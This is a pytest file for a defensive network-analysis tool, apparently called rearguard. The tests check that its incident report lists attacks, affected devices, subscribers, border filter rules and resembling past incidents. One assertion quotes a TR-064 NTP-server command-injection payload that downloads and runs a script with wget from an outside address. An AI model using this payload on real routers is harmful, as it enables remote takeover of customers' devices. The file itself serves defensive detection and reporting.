"""Each section of the page appears when there is something to say, and says it."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from tests.report.build import analysis, finding, nothing
from tests.report.rich import rich
from tests.report.spoken import ATTACKER, FELL, border, edge, exchange, nothing_dropped, what_if
from tests.report.test_report_findings_json import check
from tests.report.test_report_html import Shape, shape

from rearguard.catalogue import load as load_catalogue
from rearguard.lessons import load
from rearguard.lessons.graph import load_graph
from rearguard.model.finding import Kind, Severity
from rearguard.report.analysis import Analysis
from rearguard.report.finding_rows import AT_ONCE
from rearguard.report.inventory import load_inventory
from rearguard.report.resembles import recommended, resembles
from rearguard.report.subscribers import load_subscribers

SECTIONS = (
    "What to do first",
    "What happened when",
    "Devices concerned",
    "What was said",
    "Readable on the wire",
    "The filter at the border",
    "What this resembles",
    "Who can act",
)


def text(made: Analysis) -> str:
    """What a reader reads, spaces made one."""
    return " ".join(shape(made).text.split())


@pytest.mark.parametrize("section", SECTIONS)
def test_a_section_is_there_only_when_there_is_something(section: str) -> None:
    assert section in text(rich())
    assert section not in text(nothing())


def test_attacks_are_quoted_with_what_came_back_and_where_to_look() -> None:
    told = text(rich())
    assert f"{ATTACKER}:40123 to 11 devices: POST /UD/act?1" in told
    assert "<NewNTPServer1>`cd /tmp;wget http://198.18.55.5/1;sh 1`</NewNTPServer1>" in told
    assert "It names http://198.18.55.5/1." in told
    assert (
        "the answer to a command, without a login (HTTP 200); a demand to log in (Digest) (HTTP 401)" in told
    )
    assert "tshark -r lab.pcap -Y frame.number==501" in told
    assert "root:*****" in told
    assert "a shell, and the login succeeded" in told


def test_the_same_attack_in_the_same_words_is_told_once() -> None:
    made = nothing()
    made.view = replace(made.view, exchanges=tuple(exchange(server=f"198.51.100.{n}") for n in range(1, 200)))
    page = shape(made)
    assert page.text.count("tr064-ntp-injection") == 1
    assert "to 199 devices" in " ".join(page.text.split())


def test_devices_that_gave_way_are_rows_and_others_are_counted() -> None:
    told = text(rich())
    assert "compromised-device, attacked: did what was asked" in told
    assert "3 more devices were attacked and not seen to give way: 198.51.100.37, 198.51.100.38 and" in told


def test_subscribers_and_models_are_named_where_they_are_known(tmp_path: Path) -> None:
    leases = tmp_path / "leases.csv"
    leases.write_text(f"address,subscriber\n{FELL},DSL-4711\n")
    devices = tmp_path / "devices.csv"
    devices.write_text("subscriber,model,firmware,fixed\nDSL-4711,AC-100,1.0.3,no\n")
    told = text(rich(subscribers=load_subscribers(leases), inventory=load_inventory(devices)))
    assert f"{FELL}DSL-4711AC-100 1.0.3critical" in told
    assert "Models affected" in told
    assert "AC-1001.0.311011 not" in told
    assert "join it with your lease records" not in told


def test_the_filter_is_told_with_its_replay_and_its_text() -> None:
    told = text(rich())
    assert "0 as it must be" in told
    assert "from our devices to the outside" in told
    assert "table inet rearguard" in told
    assert "ip daddr" in told


def test_each_drop_leads_to_its_lesson_in_the_page_and_in_the_document() -> None:
    made = rich()
    told = text(made)
    (written,) = check(made)["filter"]["edges"]
    assert {each["verdict"] for each in written["rules"]} == {"pass", "drop"}
    for rule in written["rules"]:
        assert bool(rule["lessons"]) == (rule["verdict"] == "drop"), rule["id"]
        if rule["drop"] is not None:
            assert all(load_catalogue().get(name) for name in rule["lessons"])
        for name in rule["lessons"]:
            assert load_graph().resolve(name).kind in {"interface", "shape"}
            assert f"rearguard lessons show {name}" in told
            assert rule["id"] in told


def test_without_a_drop_there_are_what_ifs() -> None:
    told = text(analysis(border=nothing_dropped(what_if("telnet", needs_consent=True))))
    assert "nothing is dropped and no filter was written" in told
    assert "Needs accept_collateral in the policy. Very few customers." in told
    assert "border.nft" not in told


def test_each_edge_shows_its_file() -> None:
    told = text(analysis(border=border(edges=(edge("table one\n"), edge("table two\n", "border-two.nft")))))
    assert "border.nft: 0 rules, 1 line table one" in told
    assert "border-two.nft: 0 rules, 1 line table two" in told


def test_many_findings_of_a_kind_unfold() -> None:
    many = tuple(finding(Kind.EXPOSED_DEVICE, f"198.51.100.{n}") for n in range(AT_ONCE + 9))
    assert "9 more" in text(analysis([], many))
    few = tuple(finding(Kind.EXPOSED_DEVICE, f"198.51.100.{n}") for n in range(AT_ONCE + 1))
    assert "1 more" not in text(analysis([], few))


def test_the_lessons_that_fit_best_come_first() -> None:
    found = resembles(rich().findings, load())
    assert found is not None
    assert {entry.id for entry, _ in found.mechanisms} >= {"parameter-injection", "lan-protocol-on-wan"}
    assert {each.id for each in found.incidents[:2]} == {"eir-d1000-2016", "dt-speedport-2016"}
    assert [audience for audience, _ in found.recommendations][:2] == ["operator", "manufacturer"]


def test_a_thousand_probes_do_not_outvote_an_attack() -> None:
    probes = tuple(
        finding(
            Kind.PROBE,
            f"203.0.113.{n % 250}",
            severity=Severity.LOW,
            incidents=("carna-2012",),
            mechanisms=(),
        )
        for n in range(1000)
    )
    attack = finding(
        Kind.EXPLOIT_ATTEMPT,
        severity=Severity.HIGH,
        incidents=("gpon-dasan-2018",),
        mechanisms=("auth-bypass",),
    )
    found = resembles((*probes, attack), load())
    assert found is not None
    assert [each.id for each in found.incidents] == ["gpon-dasan-2018", "carna-2012"]


@pytest.mark.parametrize(
    "more", [{"mechanisms": ("unheard-of",)}, {"mechanisms": ()}, {"labels": ("muted",)}]
)
def test_what_no_lesson_knows_gives_no_section(more: dict[str, tuple[str, ...]]) -> None:
    given = {"mechanisms": ("auth-bypass",), **more}
    assert resembles((finding(**given),), load()) is None


def test_recommendations_follow_from_mechanisms_unless_they_are_given() -> None:
    advice = recommended(load())
    assert advice(finding(mechanisms=("lan-protocol-on-wan",)))[:2] == ("ope-04", "ope-02")
    assert advice(finding(mechanisms=())) == ()
    assert advice(finding(mechanisms=("lan-protocol-on-wan",), recommendations=("x",))) == ("x",)


def test_the_page_keeps_the_order_of_reading() -> None:
    told = shape(rich()).text
    places = [told.index(section) for section in SECTIONS]
    assert places == sorted(places)
    assert isinstance(shape(rich()), Shape)
